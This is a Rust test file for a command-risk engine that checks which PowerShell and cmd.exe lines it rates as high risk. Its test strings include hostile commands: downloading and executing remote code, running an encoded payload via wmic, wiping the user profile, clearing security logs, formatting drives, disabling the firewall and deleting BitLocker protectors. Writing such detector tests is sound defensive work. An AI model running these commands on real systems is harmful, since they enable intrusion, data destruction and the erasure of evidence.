//! What PowerShell and cmd.exe run in turn (issue 13 item 2, round 5): code downloaded or
//! decoded and then run (through a variable, a path built by `Join-Path`, .NET's HttpClient,
//! an assembly loaded from the bytes, `certutil -decode`, `Invoke-Item`), packages installed
//! from a plain-HTTP source, WMI methods (`call Format`, `Win32Shutdown`), command lines that
//! `wmic process call create` and `cmd /c` start, and the firewall and BitLocker switches of
//! the old tools. Variants are in no corpus; near misses must stay below HIGH. The texts are
//! data; nothing is run.

mod windows_common;

use riskgate::Engine;
use windows_common::{below_high, cmd, high, ps};

#[test]
fn downloaded_or_decoded_code_then_run_is_high() {
    let e = Engine::builtin();
    for t in [
        "$src = 'https://example-cdn.net/setup.ps1'\n$dst = Join-Path $env:TEMP 'setup.ps1'\n(New-Object Net.WebClient).DownloadFile($src, $dst)\n. $dst",
        "$body = (Invoke-WebRequest -UseBasicParsing -Uri https://paste.example.net/raw/x1).Content\nInvoke-Expression $body",
        "$s = (Invoke-RestMethod -Method Get https://paste.example.net/raw/x1)\niex $s",
        "$wc = New-Object Net.WebClient\n$t = $wc.DownloadString('https://paste.example.net/raw/x1')\nInvoke-Expression -Command $t",
        "Start-BitsTransfer -Source https://dl.example.org/tool.exe -Destination $env:TEMP\\tool.exe\nInvoke-Item $env:TEMP\\tool.exe",
        "$d = (Invoke-WebRequest http://198.51.100.7/x.bin -UseBasicParsing).Content\n[System.Reflection.Assembly]::Load($d).EntryPoint.Invoke($null, $null)",
        "$h = [Net.Http.HttpClient]::new()\n$bytes = $h.GetByteArrayAsync('https://dl.example.org/a.exe').Result\n[IO.File]::WriteAllBytes('C:\\Users\\Public\\a.exe', $bytes)\nStart-Process 'C:\\Users\\Public\\a.exe'",
        "Register-PSRepository -Name corp -SourceLocation http://198.51.100.9/feed -InstallationPolicy Trusted\nInstall-Module Helper -Repository corp -Force",
        "Register-PackageSource -Name x -Location http://203.0.113.8/nuget -ProviderName NuGet -Trusted",
    ] {
        high(&ps(&e, t), t);
    }
    for t in [
        "certutil -decode C:\\Users\\Public\\a.txt C:\\Users\\Public\\a.exe && C:\\Users\\Public\\a.exe",
        "certutil -decodehex %TEMP%\\p.hex %TEMP%\\p.dll & rundll32 %TEMP%\\p.dll,Start",
    ] {
        high(&cmd(&e, t), t);
    }
    for t in [
        "$dst = Join-Path $env:TEMP 'readme.txt'\nInvoke-WebRequest https://example.org/readme.txt -OutFile $dst\nGet-Content $dst",
        "Register-PSRepository -Name corp -SourceLocation https://nuget.corp.example.com/feed\nFind-Module -Repository corp",
        "$body = (Invoke-WebRequest -UseBasicParsing -Uri https://api.example.net/status).Content\n$body | ConvertFrom-Json",
    ] {
        below_high(&ps(&e, t), t);
    }
    let t = "certutil -decode cert.b64 cert.der && certutil -dump cert.der";
    below_high(&cmd(&e, t), t);
}

#[test]
fn wmi_methods_and_started_command_lines_are_read() {
    let e = Engine::builtin();
    for t in [
        "cmd /c powershell -nop -c \"Get-ChildItem -Path $env:USERPROFILE -Recurse | Remove-Item -Force -Recurse\"",
        "wmic process call create \"powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAVQBzAGUAcgBzACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUA\"",
        "wmic /node:srv01 process call create \"cmd /c wevtutil cl Security\"",
        "wmic volume where DriveLetter='D:' call Format FileSystem=NTFS",
        "wmic os call Win32Shutdown 5",
        "wmic service where name='MSSQLSERVER' call StopService",
        "netsh firewall add portopening TCP 445 SMB ENABLE ALL",
        "netsh firewall set opmode mode=disable",
        "manage-bde -protectors -delete D: -type TPM",
    ] {
        high(&cmd(&e, t), t);
    }
    for t in [
        "Invoke-CimMethod -ClassName Win32_OperatingSystem -MethodName Reboot",
        "Invoke-WmiMethod -Class Win32_LogicalDisk -Name Format -ArgumentList 'NTFS'",
    ] {
        high(&ps(&e, t), t);
    }
    for t in [
        "netsh firewall show state",
        "manage-bde -status C:",
        "wmic logicaldisk get name,size",
        "wmic process call create \"notepad.exe\"",
        "netsh firewall add portopening TCP 8080 dev ENABLE",
    ] {
        below_high(&cmd(&e, t), t);
    }
    let t = "Invoke-CimMethod -ClassName Win32_Process -MethodName GetOwner";
    below_high(&ps(&e, t), t);
}
